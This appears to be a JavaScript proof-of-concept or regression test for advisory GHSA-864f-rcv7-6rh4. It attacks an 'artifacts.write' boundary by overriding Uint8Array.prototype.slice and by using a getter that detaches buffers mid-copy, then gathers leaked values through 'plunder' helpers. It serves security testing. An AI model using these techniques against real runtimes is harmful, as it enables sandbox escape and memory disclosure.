// Getters and proxies where values are copied over the boundary, changing them meanwhile
// (GHSA-864f-rcv7-6rh4).
const { collector, plunder, said } = require('./plunder.js');

async function execute(params) {
  const bag = collector();
  const views = [Uint8Array, Uint16Array, Float64Array, DataView, BigInt64Array].map((View) => new View(new ArrayBuffer(64)));
  const { slice } = Uint8Array.prototype;
  const answers = [() => new Proxy(new Uint8Array(8), {}), () => ({ length: params.length, byteLength: 1e9, byteOffset: -1 }), () => () => 1, () => 'text', () => null, () => new Error('x'), () => Promise.resolve(1),
    () => Object.create(Uint8Array.prototype), () => new Uint8Array(new ArrayBuffer(8, { maxByteLength: 1 << 20 })), () => { const view = new Uint8Array(8); structuredClone(view, { transfer: [view.buffer] }); return view; }];
  for (const answer of answers) {
    Uint8Array.prototype.slice = function () { bag.take(this); return answer(); };
    for (const view of views.slice(0, 1)) {
      try {
        bag.take(await Promise.race([artifacts.write('x', view), new Promise((resolve) => setTimeout(resolve, 20, 'none'))]));
      } catch (error) {
        bag.take(error);
      }
    }
  }
  Uint8Array.prototype.slice = slice;
  for (const view of views) {
    const options = { get contentType() { view.buffer.transfer(0); return 'text/plain'; } };
    try {
      bag.take(await artifacts.write('y', view, options));
    } catch (error) {
      bag.take(error);
    }
  }
  const values = bag.values();
  return { ...plunder(values, params), said: said(values.filter((value) => value instanceof Error)) };
}
